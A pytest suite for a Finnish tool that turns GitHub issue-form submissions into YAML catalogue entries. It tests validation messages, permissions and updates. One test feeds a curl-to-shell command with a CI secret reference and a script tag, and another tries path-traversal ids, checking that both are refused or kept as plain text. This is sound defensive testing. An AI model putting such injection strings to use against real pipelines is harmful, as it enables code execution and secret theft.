"""`tarjotin from-issue`: recorded issue-form bodies become an offer file, or the list of what to fix."""

from __future__ import annotations

import shutil
from pathlib import Path

import pytest
import yaml
from conftest import OFFER, REPO, TODAY, Workspace

from generator.cli import main
from generator.fields import SLUG_HINT
from generator.from_issue import FIELDS, FORMS_DIR, IDENTITY, NEW_FORM, NOTE, FormCodes
from generator.load import Document, load_text
from generator.models import Offer
from generator.scaffold import offer_template
from generator.taxonomy import WHOLE_REGION, Taxonomy

BODIES = Path(__file__).resolve().parent / "issue_forms"
NEW = "catalogue/esimerkki-ry/aitien-ja-isien-iltapaiva.yml"


@pytest.fixture
def site(workspace: Workspace) -> Workspace:
    """The small valid catalogue with the real site_config and forms; curator: kuraattori."""
    shutil.copytree(REPO / "site_config", workspace.root / "site_config")
    shutil.copytree(REPO / FORMS_DIR, workspace.root / FORMS_DIR)
    workspace.write("site_config/yllapito.yml", "kuraattorit: [kuraattori]\n")
    return workspace


def submit(site: Workspace, body: str, author: str = "esimerkki-kayttaja") -> tuple[int, str]:
    """Run from-issue on a recorded body; return its exit code and the message it wrote."""
    message = site.root.parent / "viesti.md"
    code = main(
        [
            "--root",
            str(site.root),
            "from-issue",
            str(BODIES / body),
            "--author",
            author,
            "--issue",
            "7",
            "--message",
            str(message),
            "--today",
            "2026-11-23",
        ]
    )
    return code, message.read_text(encoding="utf-8")


@pytest.mark.parametrize(
    "broken",
    ["body: [\n", "body:\n  - type: input\n    attributes: {label: Nimi}\n", "body: 7\n"],
    ids=["yaml", "field_without_id", "body_not_a_list"],
)
def test_a_broken_form_definition_is_one_finnish_line(
    site: Workspace, capsys: pytest.CaptureFixture[str], broken: str
) -> None:
    site.write(f"{FORMS_DIR.as_posix()}/{NEW_FORM}", broken)
    code = main(
        [
            "--root",
            str(site.root),
            "from-issue",
            str(BODIES / "uusi_taydellinen.md"),
            "--author",
            "esimerkki-kayttaja",
            "--issue",
            "7",
            "--message",
            str(site.root.parent / "viesti.md"),
        ]
    )
    assert code == 1
    assert capsys.readouterr().err == (
        f"tarjotin: lomakkeen {FORMS_DIR.as_posix()}/{NEW_FORM} määrittely on rikki: jokaisella kentällä pitää olla "
        "'type', 'id' ja 'attributes: label' GitHubin lomakemuodon mukaan\n"
    )


def _form(name: str) -> list[dict[str, object]]:
    definition = yaml.safe_load((REPO / FORMS_DIR / name).read_text(encoding="utf-8"))
    return [item for item in definition["body"] if item["type"] != "markdown"]


@pytest.mark.parametrize("name", ["uusi-tarjonta.yml", "paivita-tarjontaa.yml"])
def test_form_fields_mirror_the_data_model_and_the_taxonomy(name: str, taxonomy: Taxonomy) -> None:
    keys = {field.alias for field in Offer.model_fields.values()}
    for item in _form(name):
        field_id = str(item["id"])
        assert field_id in FIELDS or field_id in (*IDENTITY, NOTE), f"{name}: {field_id} goes nowhere"
        if field_id not in FIELDS:
            continue
        where, read = FIELDS[field_id]
        assert where[0] in keys, f"{field_id} writes {where[0]}, which the data model lacks"
        if isinstance(read, FormCodes):
            options = item["attributes"]["options"]  # type: ignore[index]
            labels = [term.fi for code, term in taxonomy.codes(read.code_list).items() if code != WHOLE_REGION]
            whole = taxonomy.municipalities[WHOLE_REGION].fi
            assert [option for option in options if option != whole] == labels, f"{name}: {field_id} options"
            assert all(", " not in option for option in options)  # GitHub joins the choices with ", "


def test_the_new_form_asks_for_every_required_field() -> None:
    required = {field.alias for field in Offer.model_fields.values() if field.is_required()}
    asked = {
        FIELDS[str(item["id"])][0][0]
        for item in _form(NEW_FORM)
        if item.get("validations", {}).get("required") and item["id"] in FIELDS  # type: ignore[union-attr]
    }
    assert required - {"tarkistettu"} == asked


def test_a_complete_new_form_gives_the_commented_file(site: Workspace, capsys: pytest.CaptureFixture[str]) -> None:
    code, message = submit(site, "uusi_taydellinen.md")
    assert code == 0
    assert capsys.readouterr().out == f"Kirjoitettu {NEW}\n"
    written = site.read(NEW)
    assert written == (BODIES / "uusi_taydellinen.yml").read_text(encoding="utf-8")
    # Nothing is left to fill in: no "fill in the empty fields" header, no empty optional list.
    template = offer_template(site.root, TODAY).splitlines()
    header = template[1 : template.index("")]
    assert header and not any(line in written.splitlines() for line in header)
    document = load_text(NEW, written)
    assert isinstance(document, Document) and [] not in document.data.values()
    assert message.startswith(f"Tämä muutos on tehty lomakkeesta #7: `{NEW}`.\n")
    assert message.endswith("\n\nCloses #7\n")
    assert main(["--root", str(site.root), "validate", "--today", "2026-11-23", "--format", "text"]) == 0


def test_mistakes_are_listed_at_their_form_fields_and_nothing_is_written(
    site: Workspace, capsys: pytest.CaptureFixture[str]
) -> None:
    code, message = submit(site, "uusi_virheellinen.md")
    assert code == 1
    expected = [
        "Yläikäraja: yläikäraja 12 on pienempi kuin alaikäraja 18 — vaihda luvut keskenään",
        "Kunnat: 'kunnat': tuntematon koodi 'Porvoo' — sallitut arvot: "
        "hyvinkaa, jarvenpaa, mantsala, nurmijarvi, pornainen, tuusula, koko-alue",
        "Postinumero: 'postinumero' pitää olla viisi numeroa, nyt '4300' — kirjoita esim. \"04300\"",
        "Alkaa klo: 'alkaa' pitää olla muotoa HH:MM, nyt '930' — kirjoita esim. \"09:30\"",
        "Sähköposti: 'sahkoposti' ei ole kelvollinen sähköpostiosoite: 'perhetalo(at)example.fi' "
        "— kirjoita muotoa nimi@example.fi",
    ]
    assert capsys.readouterr().out.splitlines() == expected
    assert not (site.root / NEW).exists()
    assert message.splitlines()[2:] == ["```text", *expected, "```"]


def test_hostile_text_stays_text_in_its_own_field(site: Workspace) -> None:
    code, message = submit(site, "uusi_vihamielinen.md")  # CRLF line ends, as from a browser
    assert code == 0, message
    document = load_text("x.yml", site.read("catalogue/esimerkki-ry/vihamielinen.yml"))
    assert isinstance(document, Document)
    data = document.data
    assert data["nimi"] == "$(curl http://example.fi/x | sh) `id` ${{ secrets.TOKEN }}"
    assert data["lyhyesti"] == "<script>alert(1)</script> \"lainaus\" 'heittomerkki' #risuaita: kaksoispiste"
    assert data["kuvaus"].startswith("Tapaamme kerran viikossa.\nteemat: [vammaisuus]\n---\n```\n@kaikki\n### Hinta\n")
    assert data["teemat"] == ["lapsiperheet", "mielenterveys-ja-paihteet"]
    assert data["hinta"] == "maksuton"


def test_ids_that_leave_the_catalogue_are_refused(site: Workspace, capsys: pytest.CaptureFixture[str]) -> None:
    before = sorted(site.root.rglob("*"))
    assert submit(site, "uusi_polku_ulos.md")[0] == 1
    hint = SLUG_HINT
    assert capsys.readouterr().out.splitlines() == [
        f"Järjestön tunnus: '../../.github' ei kelpaa tunnukseksi — {hint}",
        f"Uuden tarjonnan tunnus: 'workflows/x' ei kelpaa tunnukseksi — {hint}",
    ]
    assert sorted(site.root.rglob("*")) == before


def test_the_author_must_maintain_the_organisation(site: Workspace, capsys: pytest.CaptureFixture[str]) -> None:
    assert submit(site, "uusi_taydellinen.md", author="vieras")[0] == 1
    assert capsys.readouterr().out.startswith(
        "Järjestön tunnus: @vieras ei ole järjestön 'esimerkki-ry' ylläpitäjä eikä kuraattori"
    )
    assert submit(site, "uusi_taydellinen.md", author="kuraattori")[0] == 0


def test_a_new_offer_never_replaces_one(site: Workspace, capsys: pytest.CaptureFixture[str]) -> None:
    site.write(NEW, site.read(OFFER))
    assert submit(site, "uusi_taydellinen.md")[0] == 1
    assert capsys.readouterr().out == (
        "Uuden tarjonnan tunnus: tunnus 'aitien-ja-isien-iltapaiva' on jo käytössä — valitse toinen tunnus\n"
    )
    assert site.read(NEW) == site.read(OFFER)


def test_an_update_changes_only_the_answered_fields(site: Workspace) -> None:
    before = site.read(OFFER).splitlines()
    code, message = submit(site, "paivitys.md")
    assert code == 0
    after = site.read(OFFER).splitlines()
    removed = [line for line in before if line not in after]
    added = [line for line in after if line not in before and line]
    # Only the answered values change: the rest of each rewritten block is written as it was.
    assert removed == [
        "hinta: maksuton",
        "    osoite: Esimerkkikatu 1",
        '    alkaa: "17:30"',
        "tarkistettu: 2026-11-01",
    ]
    assert added == [
        "hinta:",
        "  maksu: 3 € / kerta",
        "    osoite: Uusitie 2",
        '    alkaa: "18:00"',
        "tila: tauolla",
        "verkossa: true",
        "tarkistettu: 2026-11-23",
    ]
    # The note for the curator reaches the pull request as plain text, not as Markdown or HTML.
    assert "```text\nRyhmä pitää joulutauon. Uusi osoite on `Uusitie 2` <b>heti</b>.\n```" in message
    assert main(["--root", str(site.root), "validate", "--today", "2026-11-23", "--format", "text"]) == 0


def test_an_update_of_a_missing_offer_is_refused(site: Workspace, capsys: pytest.CaptureFixture[str]) -> None:
    site.root.joinpath(OFFER).unlink()
    assert submit(site, "paivitys.md")[0] == 1
    assert capsys.readouterr().out == (
        "Päivitettävän tarjonnan tunnus: tarjontaa catalogue/esimerkki-ry/vertaisryhma.yml ei ole\n"
    )


def test_an_issue_that_is_no_form_gets_a_comment_saying_so(site: Workspace, tmp_path: Path) -> None:
    body = BODIES / "uusi_taydellinen.md"
    other = tmp_path / "muu.md"
    other.write_text(body.read_text(encoding="utf-8").replace("### Hinta", "### Kustannukset"), encoding="utf-8")
    message = tmp_path / "viesti.md"
    args = ["--root", str(site.root), "from-issue", str(other), "--author", "a", "--issue", "3", "--message"]
    assert main([*args, str(message)]) == 1
    assert "lomake: tiketti ei ole tarjonnan lomake" in message.read_text(encoding="utf-8")


def _answered(name: str, answers: dict[str, str]) -> str:
    """Return a recorded body with some fields answered differently, by their labels."""
    body = (BODIES / name).read_text(encoding="utf-8")
    for label, answer in answers.items():
        start = body.index(f"### {label}\n\n") + len(f"### {label}\n\n")
        body = body[:start] + answer + body[body.index("\n\n###", start) :]
    return body


@pytest.mark.parametrize("age", ["١٨", "²"])
def test_an_age_in_other_digits_stays_text_for_validation_to_refuse(
    site: Workspace, tmp_path: Path, capsys: pytest.CaptureFixture[str], age: str
) -> None:
    body = tmp_path / "uusi.md"
    body.write_text(_answered("uusi_taydellinen.md", {"Alaikäraja": age}), encoding="utf-8")
    assert submit(site, str(body))[0] == 1
    assert capsys.readouterr().out.startswith(f"Alaikäraja: 'min' pitää olla kokonaisluku, nyt '{age}'")
    assert not (site.root / NEW).exists()


def _update_to_thursday_evenings(site: Workspace, tmp_path: Path) -> None:
    """Submit the update form that adds a Thursday 18–20 meeting to OFFER, and expect success."""
    body = tmp_path / "paivitys.md"
    body.write_text(
        _answered("paivitys.md", {"Viikonpäivät": "torstai", "Alkaa klo": "18:00", "Loppuu klo": "20:00"}),
        encoding="utf-8",
    )
    message = tmp_path / "viesti.md"
    args = ["from-issue", str(body), "--author", "esimerkki-kayttaja", "--issue", "7", "--message", str(message)]
    assert main(["--root", str(site.root), *args, "--today", "2026-11-23"]) == 0, message.read_text()


def test_an_update_never_writes_weekly_times_into_single_dates(site: Workspace, tmp_path: Path) -> None:
    weekly = """  - viikonpaivat: [ti]
    alkaa: "17:30"
    loppuu: "19:00"
    voimassa: {alkaen: 2026-08-18, asti: 2027-05-25}
    poikkeukset: [2026-12-22, 2026-12-29]
"""
    dates = """  - paivat: [2026-12-05]
    alkaa: "10:00"
    loppuu: "14:00"
"""
    assert weekly + dates in site.read(OFFER)
    site.edit(OFFER, weekly, "")  # single dates only
    _update_to_thursday_evenings(site, tmp_path)
    assert dates + '  - viikonpaivat: [to]\n    alkaa: "18:00"\n    loppuu: "20:00"\n' in site.read(OFFER)


def test_an_update_keeps_every_boolean_of_a_rewritten_block_unquoted(site: Workspace, tmp_path: Path) -> None:
    """The keys written unquoted come from the models, so a by-appointment time stays `true`, not "true"."""
    schedules = site.read(OFFER)[site.read(OFFER).index("ajat:\n") : site.read(OFFER).index("yhteystiedot:")]
    site.edit(OFFER, schedules, "ajat:\n  - sopimuksen-mukaan: true\n")
    _update_to_thursday_evenings(site, tmp_path)
    assert "  - sopimuksen-mukaan: true\n  - viikonpaivat: [to]\n" in site.read(OFFER)


def test_yaml_suffix_is_accepted_as_validation_accepts_it(site: Workspace, capsys: pytest.CaptureFixture[str]) -> None:
    organisation = site.root / "organisations" / "esimerkki-ry.yml"
    organisation.rename(organisation.with_suffix(".yaml"))
    offer = site.root / OFFER
    offer.rename(offer.with_suffix(".yaml"))
    code, message = submit(site, "paivitys.md")
    assert code == 0, message
    assert capsys.readouterr().out == "Kirjoitettu catalogue/esimerkki-ry/vertaisryhma.yaml\n"
    assert "hinta:\n  maksu: 3 € / kerta\n" in offer.with_suffix(".yaml").read_text(encoding="utf-8")
    assert not offer.exists()
    # A new offer may not take an id that a .yaml file already has.
    site.write(NEW.replace(".yml", ".yaml"), site.read("catalogue/esimerkki-ry/vertaisryhma.yaml"))
    assert submit(site, "uusi_taydellinen.md")[0] == 1
    assert "on jo käytössä" in capsys.readouterr().out


@pytest.mark.parametrize(
    ("case", "expected"),
    [
        ("missing-curators", "kuraattoreiden luettelo site_config/yllapito.yml puuttuu"),
        ("broken-offer", "tiedostoa catalogue/esimerkki-ry/vertaisryhma.yml ei voi lukea"),
    ],
)
def test_a_fault_of_the_catalogue_still_answers_the_issue(
    site: Workspace, capsys: pytest.CaptureFixture[str], case: str, expected: str
) -> None:
    if case == "missing-curators":
        site.root.joinpath("site_config/yllapito.yml").unlink()
    else:
        site.write(OFFER, "nimi: [rikki\n")
    before = site.read(OFFER)
    code, message = submit(site, "paivitys.md")
    assert code == 1
    assert expected in capsys.readouterr().err
    assert message.startswith("Lomaketta ei voitu käsitellä, koska tarjottimen omissa tiedoissa on vika")
    assert f"```text\n{expected}" in message
    assert site.read(OFFER) == before


def test_output_puts_the_file_elsewhere(site: Workspace, tmp_path: Path) -> None:
    output = tmp_path / "tulos"
    message = output / "viesti.md"
    output.mkdir()
    args = ["from-issue", str(BODIES / "uusi_taydellinen.md"), "--author", "esimerkki-kayttaja", "--issue", "7"]
    args += ["--message", str(message), "--output", str(output), "--today", "2026-11-23"]
    assert main(["--root", str(site.root), *args]) == 0
    assert not (site.root / NEW).exists()
    assert sorted(p.relative_to(output).as_posix() for p in output.rglob("*") if p.is_file()) == [NEW, "viesti.md"]


@pytest.mark.parametrize(
    ("message", "expected"),
    [("puuttuva/viesti.md", "tiedostoa tai kansiota ei ole"), ("kansio", "se on kansio eikä tiedosto")],
)
def test_a_message_file_that_cannot_be_written_is_one_finnish_line(
    site: Workspace, capsys: pytest.CaptureFixture[str], tmp_path: Path, message: str, expected: str
) -> None:
    (tmp_path / "kansio").mkdir()
    args = ["from-issue", str(BODIES / "uusi_virheellinen.md"), "--author", "esimerkki-kayttaja", "--issue", "7"]
    assert main(["--root", str(site.root), *args, "--message", str(tmp_path / message)]) == 2
    err = capsys.readouterr().err
    assert "Traceback" not in err
    assert err == f"tarjotin: {tmp_path / message}: {expected}\n"


NO = "_No response_"
NO_PLACE = {label: NO for label in ("Paikan nimi", "Katuosoite", "Postinumero", "Paikan kunta", "Paikan esteettömyys")}


def _submitted(site: Workspace, tmp_path: Path, body: str) -> list[str]:
    """Submit a body written here; return the problems printed, one a line."""
    path = tmp_path / "lomake.md"
    path.write_text(body, encoding="utf-8")
    args = ["from-issue", str(path), "--author", "esimerkki-kayttaja", "--issue", "7", "--today", "2026-11-23"]
    assert main(["--root", str(site.root), *args, "--message", str(tmp_path / "viesti.md")]) == 1
    return (tmp_path / "viesti.md").read_text(encoding="utf-8").split("```text\n")[1].split("\n```")[0].splitlines()


@pytest.mark.parametrize(
    ("answers", "expected"),
    [
        (
            NO_PLACE,
            [
                "Paikan nimi: tarjonnalta puuttuu paikka — lisää paikat: tai merkitse verkossa: true tai puhelimitse: true"
            ],
        ),
        ({"Katuosoite": NO}, ["Katuosoite: pakollinen kenttä 'osoite' puuttuu — lisää rivi 'osoite: ...'"]),
        (
            {"Alkaa klo": NO, "Loppuu klo": NO},
            [
                "Alkaa klo: pakollinen kenttä 'alkaa' puuttuu — lisää rivi 'alkaa: ...'",
                "Loppuu klo: pakollinen kenttä 'loppuu' puuttuu — lisää rivi 'loppuu: ...'",
            ],
        ),
    ],
    ids=["no_place", "no_street_address", "days_without_times"],
)
def test_a_missing_answer_is_labelled_with_its_own_field(
    site: Workspace, tmp_path: Path, answers: dict[str, str], expected: list[str]
) -> None:
    assert _submitted(site, tmp_path, _answered("uusi_taydellinen.md", answers)) == expected


def test_a_code_point_that_is_no_character_is_refused_at_its_field(site: Workspace, tmp_path: Path) -> None:
    """Such a code point, left by a broken conversion of pasted text, reaches the file as a quoted escape."""
    answers = {"Lyhyesti": "Isät ja lapset yhdessä\uffff"}
    assert _submitted(site, tmp_path, _answered("uusi_taydellinen.md", answers)) == [
        "Lyhyesti: tekstissä on virheellinen merkkikoodi (U+FFFF) — poista lainausmerkkien sisältä "
        "kenoviivalla alkava merkintä, joka tuottaa sen (esim. \\e tai \\uFFFF)"
    ]


def test_an_update_labels_the_weekly_times_after_single_dates(site: Workspace, tmp_path: Path) -> None:
    text = site.read(OFFER)
    weekly = text[text.index("  - viikonpaivat: [ti]") : text.index("  - paivat:")]
    site.edit(OFFER, weekly, "")  # the new weekly schedule comes second, after the single dates
    answers = {"Viikonpäivät": "torstai", "Alkaa klo": "18:00", "Loppuu klo": "17:00"}
    assert _submitted(site, tmp_path, _answered("paivitys.md", answers)) == [
        "Loppuu klo: loppumisaika 17:00 ei ole alkamisajan 18:00 jälkeen "
        "— tarkista kellonajat; yön yli jatkuvaa aikaa ei voi merkitä"
    ]


@pytest.mark.parametrize(
    ("old", "new", "expected"),
    [
        (  # the contact person's consent was never written down
            "    suostumus: true\n",
            "",
            "Yhteystiedot: yhteyshenkilön nimen saa julkaista vain hänen suostumuksellaan "
            "— kysy lupa ja lisää 'suostumus: true', tai poista henkilö",
        ),
        (  # a key the data model does not know
            "asiasanat: [omaiset, jaksaminen]",
            "asiasana: omaiset",
            "asiasana: tuntematon kenttä 'asiasana' — tarkoititko 'asiasanat'?",
        ),
    ],
    ids=["field_the_form_does_not_ask", "unknown_key"],
)
def test_a_problem_outside_the_form_is_labelled_with_the_files_field(
    site: Workspace, tmp_path: Path, old: str, new: str, expected: str
) -> None:
    """An older file with a mistake of its own, updated through the form."""
    site.edit(OFFER, old, new)
    assert _submitted(site, tmp_path, (BODIES / "paivitys.md").read_text(encoding="utf-8")) == [expected]
